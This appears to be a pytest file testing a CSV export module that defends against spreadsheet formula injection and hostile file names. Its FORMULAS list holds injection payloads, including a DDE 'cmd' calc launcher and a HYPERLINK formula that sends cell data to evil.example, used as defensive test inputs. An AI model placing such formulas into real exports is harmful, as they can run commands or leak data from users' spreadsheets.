"""CSV files: what a spreadsheet and a program read of them is what the rows say, and no cell is a formula."""

import csv
import io
import math
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelops_pipelines.core.endpoints.spec import EndpointSpec
from modelops_pipelines.core.errors import InputError, UnknownError
from modelops_pipelines.core.escaping import from_csv_text
from modelops_pipelines.core.tables.lake import DRIFT
from modelops_pipelines.operations.reports.csv_export import csv_of, export
from tests.fakes.lake_rows import write
from tests.fakes.records import START
from tests.support.project import Project, make_project

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "\uff1dHYPERLINK()",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_is_a_formula_gets_an_apostrophe_in_a_cell_and_in_a_header(text: str) -> None:
    assert [[f"'{text}"], [f"'{text}"]] == read(csv_of([text], [{text: text}]))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (math.nan, ""),
        (math.inf, ""),
        (-5, "-5"),
        (-0.1, "-0.1"),
        (1e-300, "1e-300"),
        (2**53, "9007199254740992"),
        (True, "true"),
        (False, "false"),
        ({"=a": 1}, '{"=a": 1}'),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00Z"),
        ("plain", "plain"),
        ("-5", "-5"),
    ],
)
def test_values_are_those_of_the_json_routes(value: Any, cell: str) -> None:
    assert [["x", "y"], [cell, "1"]] == read(csv_of(["x", "y"], [{"x": value, "y": 1}]))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=4))
def test_any_text_comes_back_as_it_was_and_is_no_formula(texts: list[str]) -> None:
    names = [str(place) for place in range(len(texts))]
    [_, cells] = read(csv_of(names, [dict(zip(names, texts, strict=True))]))
    assert texts == [from_csv_text(cell) for cell in cells]
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]


def test_lines_end_as_rfc_4180_says_and_quotes_are_doubled() -> None:
    assert 'a,b\r\n"x,""y""","1\n2"\r\n' == csv_of(["a", "b"], [{"a": 'x,"y"', "b": "1\n2"}])


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    made = make_project(tmp_path_factory.mktemp("csv") / "project")
    rows = [_verdict("=1+1"), _verdict("plain")]
    write(made.stores, made.spec, DRIFT, rows)
    return made


def _verdict(column: str) -> dict[str, Any]:
    counted = {"kind": "numeric", "statistic": "psi", "value": -0.5, "n": 1, "n_reference": 1}
    return {"window_start": START, "model_version": "1", "column": column, **counted}


def test_a_hostile_name_of_a_column_is_a_text_in_the_file(project: Project) -> None:
    [header, *rows] = read(export(project.stores, project.spec, "drift", 1).content.decode())
    assert {"'=1+1", "plain"} == {row[header.index("column")] for row in rows}
    assert {"-0.5"} == {row[header.index("value")] for row in rows}


def test_a_file_is_named_after_its_endpoint_without_what_a_header_could_mistake(project: Project) -> None:
    hostile = EndpointSpec('a"\r\nx: y/../b', "m", "regression", "y")
    assert "a___x__y____b-drift.csv" == export(project.stores, hostile, "drift", 1).name


def test_an_unknown_table_is_told_with_those_that_there_are(project: Project) -> None:
    with pytest.raises(UnknownError, match=r"'inference_log'.*traffic, quality"):
        export(project.stores, project.spec, "inference_log", 1)


def test_a_segment_of_a_table_that_has_none_is_refused(project: Project) -> None:
    with pytest.raises(InputError, match=r"'drift' has no segments.*'quality'"):
        export(project.stores, project.spec, "drift", 1, segment="city=Bonn")


def test_a_table_without_rows_has_its_header(project: Project) -> None:
    content = export(project.stores, project.spec, "quality", 7).content.decode()
    assert content.startswith("window_start,model_version,segment,")
    assert 1 == content.count("\r\n")
    assert Path(export(project.stores, project.spec, "quality", 7).name).name == "cancer-quality.csv"
